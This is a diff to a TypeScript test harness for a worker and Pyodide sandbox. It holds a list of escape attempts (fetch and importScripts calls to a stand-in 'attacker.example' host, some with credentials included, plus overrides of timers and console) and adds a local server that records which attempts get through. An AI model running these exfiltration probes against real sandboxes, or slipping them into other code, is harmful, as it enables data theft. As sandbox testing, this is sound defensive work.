@@ -3,13 +3,16 @@
  * begins with “got” says that it got out. The others only have to leave everything outside as it was.
  */
 
+import http from 'node:http';
+import type {AddressInfo} from 'node:net';
+
 /** Where an attack would send what it has got. A test puts its own server in the place of it. */
-export const attacker = 'https://attacker.example';
+const attacker = 'https://attacker.example';
 
 /** A worker's source that asks the attacker for something by every way that a worker has. */
 const asking = `fetch("${attacker}/nested");self.importScripts("${attacker}/nested.js")`;
 
-export const attacks: readonly string[] = [
+const attacks: readonly string[] = [
   // The network, by the ways that a policy may forget.
   `fetch("${attacker}/a", {keepalive: true, mode: "no-cors"})`,
   `fetch("${attacker}/b", {priority: "high", credentials: "include"})`,
@@ -80,3 +83,77 @@ export const attacks: readonly string[] = [
   `performance.now = Date.now = () => 0`,
   `console.log = () => 1`,
 ];
+
+/** How long code waits in its worker for a request that it has started, in milliseconds. */
+const LINGER_MS = 1000;
+
+/** A server that attacks try to reach, and the code of an example that tries all of them and shows what it has got. */
+export interface Attacked {
+  readonly address: string;
+  /** The requests that arrived. */
+  readonly reached: readonly string[];
+  readonly javascript: string;
+  readonly python: string;
+  readonly close: () => void;
+}
+
+/** Starts such a server. */
+export async function startAttacked(): Promise<Attacked> {
+  const reached: string[] = [];
+  const server = http.createServer(({url = ''}, response) => {
+    reached.push(url);
+    response.writeHead(200, {'access-control-allow-origin': '*'}).end('1');
+  });
+  server.on('upgrade', ({url = ''}, socket) => {
+    reached.push(url);
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}/attack`;
+  const list = JSON.stringify(attacks).replaceAll(attacker, address);
+  return {
+    address,
+    reached,
+    javascript: `
+      self.h3 = h3;
+      const got = [];
+      for (const attack of ${list}) {
+        try {
+          const value = (0, eval)(attack);
+          if (typeof value === 'string' && value.startsWith('got')) got.push(value);
+          if (value instanceof Promise) value.catch(() => 1);
+        } catch {}
+      }
+      const end = new Date(Number(new Date()) + ${LINGER_MS});
+      while (new Date() < end);
+      return ['tried', got];`,
+    python: `
+import json, time, urllib.request
+from pyodide.code import run_js
+from pyodide.http import open_url
+import js, pyodide_js
+got = []
+def attempt(attack):
+    try:
+        value = attack()
+        if isinstance(value, str) and value.startswith('got'):
+            got.append(value)
+    except BaseException:
+        pass
+for attack in json.loads(${JSON.stringify(list)}):
+    attempt(lambda: run_js(attack))
+for attack in (
+    lambda: 'got a page' if js.parent or js.document else '',
+    lambda: js.postMessage('forged'),
+    lambda: js.fetch('${address}/py-a'),
+    lambda: js.importScripts('${address}/py-b'),
+    lambda: 'got ' + open_url('${address}/py-c').read(),
+    lambda: 'got ' + str(urllib.request.urlopen('${address}/py-d').read()),
+    lambda: pyodide_js.loadPackage('${address}/py-e.whl'),
+):
+    attempt(attack)
+time.sleep(${LINGER_MS / 1000})
+print(['tried', got])`,
+    close: () => server.close(),
+  };
+}
